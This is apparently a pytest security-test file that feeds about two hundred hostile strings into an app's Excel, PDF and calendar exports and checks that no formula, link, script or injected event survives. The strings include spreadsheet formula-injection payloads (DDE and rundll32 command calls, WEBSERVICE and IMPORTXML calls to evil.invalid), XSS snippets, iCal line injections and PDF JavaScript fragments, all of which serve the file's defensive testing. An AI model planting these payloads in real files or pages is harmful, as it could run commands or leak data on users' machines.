"""S11: two hundred hostile texts in every file that leaves the program: never a formula, a link, a script, a new line."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime, timedelta
from io import BytesIO
from typing import TYPE_CHECKING

import icalendar
import openpyxl
import pytest
from pypdf import PdfReader

from app.prints import excel, sheet, tables
from app.prints.ical import Stay, make_ical
from app.prints.paper import Paper
from app.workbook.lines import Findings
from app.workbook.tabs import read_tabs
from app.workbook.writing import write_workbook

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "'=",
    '"=',
    "\u200b=",
    "\ufeff=",
    "{=",
    ";=",
    ",=",
)
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.invalid?x="&A1,"点这里")',
    "SUM(1,1)",
    'WEBSERVICE("http://evil.invalid")',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.invalid",A1),"//a")',
    '_xlfn.IMAGE("http://evil.invalid")',
    "2*(3",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
_OTHERS = (
    "http://evil.invalid/x", "https://evil.invalid", "mailto:x@evil.invalid", "ftp://evil.invalid", "file:///etc/passwd",
    "internal:Sheet2!A1", "external:c:\\x.xlsx", "javascript:alert(1)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "]]></v></c><c><f>1+1</f>", "</t></si><si><t>", "&lt;f&gt;1&lt;/f&gt;", "&#61;1+1", "_x003D_1+1", "_x000A_=1",
    "甲\r\nBEGIN:VEVENT\r\nUID:evil", "甲\nATTACH:http://evil.invalid", "甲\nEND:VCALENDAR", "甲;乙,丙\\丁", "甲\rX-EVIL:1", "甲\x0bX", "甲\x0cX", "甲\x85X", "甲\u2028X-EVIL:1",
    "甲\x00乙", "甲\x7f乙", "甲\t乙", "=\t1", "\x0b=1+1", "\x01\x02\x1f", "\ufffe", "\u202e乙甲", "\u2066甲", "e\u0301" * 30, "𠮷野家", "👨‍👩‍👧‍👦", "\u0000=1+1",
    "(x) Tj ET BT /JS (app.alert(1))", ">> /OpenAction << /S /JavaScript >>", "endobj 1 0 obj", "**bold** __x__ [a](http://evil.invalid)", "%PDF-1.7 %%EOF",
)  # fmt: skip
TEXTS = [start + formula for start in _STARTS for formula in _FORMULAS] + list(_OTHERS)


def test_there_are_two_hundred() -> None:
    assert len(set(TEXTS)) >= 200


def show(text: str) -> str:
    """What of a text an XML file can carry at all, line ends as XML reads them."""
    return (
        re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]", "", text)
        .replace("\r\n", "\n")
        .replace("\r", "\n")
    )


def check_parts(content: bytes) -> None:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in part
                assert b"<f " not in part
                assert b"<hyperlink" not in part
            assert b'TargetMode="External"' not in part, name
            assert b"ddeLink" not in part, name


def list_cells(content: bytes) -> Iterator[openpyxl.cell.Cell]:
    for page in openpyxl.load_workbook(BytesIO(content)).worksheets:
        for row in page.iter_rows():
            yield from row


def check_cells(content: bytes) -> set[str]:
    check_parts(content)
    found = set()
    for cell in list_cells(content):
        assert cell.data_type != "f", cell.value
        assert cell.hyperlink is None
        if isinstance(cell.value, str):
            found.add(cell.value)
    return found


def test_lists_as_excel() -> None:
    made = excel.make_workbook([excel.Sheet(TEXTS[0], TEXTS[:3], [(text, "x", 1) for text in TEXTS])])
    found = check_cells(made)
    plain = [text for text in TEXTS if text == show(text) and not text.startswith("_x")]
    assert len(plain) > 150
    assert set(plain) <= found


def test_rolls_as_excel() -> None:
    columns = [sheet.Column("姓名", 1), sheet.Column("备注", 2)]
    made = sheet.make_excel(
        sheet.Sheet(
            TEXTS[0], TEXTS[1], columns, [sheet.Block(text, [(text, text)]) for text in TEXTS], TEXTS[2], "无"
        )
    )
    found = check_cells(made)
    assert {text for text in TEXTS if text == show(text) and not text.startswith("_x")} <= found


def test_workbook_of_the_record(tmp_path: Path) -> None:
    path = tmp_path / "texts.xlsx"
    rows = [{"code": f"PV{i:03d}", "name_zh": text, "contact": text} for i, text in enumerate(TEXTS)]
    write_workbook(path, lambda each: rows if each.key == "providers" else ())
    check_parts(path.read_bytes())
    findings = Findings()
    read = {
        line.values["code"]: line.values.get("name_zh")
        for line in read_tabs(path, findings, lambda _: None)["providers"].lines
    }
    harmless = {
        row["code"]: row["name_zh"]
        for row in rows
        if row["name_zh"].isprintable() and row["name_zh"].strip() == row["name_zh"]
    }
    assert len(harmless) > 120
    assert {code: read[code] for code in harmless} == harmless


def test_papers_hold_no_action_and_no_link() -> None:
    paper = Paper(TEXTS[0], TEXTS[1])
    tables.list_rows(
        paper, [tables.Column("姓名"), tables.Column("备注", 2)], [(text, text) for text in TEXTS]
    )
    for text in TEXTS:
        paper.say(text)
    paper.list_facts([(text, text) for text in TEXTS])
    made = paper.finish()
    for reader in (PdfReader(BytesIO(made)),):
        assert "/OpenAction" not in reader.trailer["/Root"] or "/S" not in str(
            reader.trailer["/Root"]["/OpenAction"]
        )
        assert "/Names" not in reader.trailer["/Root"]
        for page in reader.pages:
            assert "/Annots" not in page
            assert "/AA" not in page
    letters = [sheet.Letter(text, [(text, text)], [text]) for text in TEXTS[::20]]
    assert sheet.make_letters("致家长", "页脚", letters, "无").startswith(b"%PDF")


@pytest.mark.parametrize("text", TEXTS)
def test_calendars_hold_one_event_each(text: str) -> None:
    starts = datetime(2026, 12, 1, 1, 0, tzinfo=UTC)
    stay = Stay("uid@carematch", text, text, starts, starts + timedelta(hours=1), is_sure=True)
    made = make_ical([stay], starts)
    lines = made.decode("utf-8").split("\r\n")
    names = [re.split("[:;]", line)[0] for line in lines if line and line[0] not in " \t"]
    assert names.count("BEGIN") == names.count("END")
    assert {"ATTACH", "X-EVIL"} & set(names) == set()
    assert names.count("UID") == 1
    assert not re.search(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x85\u2028\u2029]", made.decode("utf-8").replace("\r\n", "")
    )
    (event,) = icalendar.Calendar.from_ical(made).walk("VEVENT")
    assert set(event) == {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "LOCATION", "STATUS"}
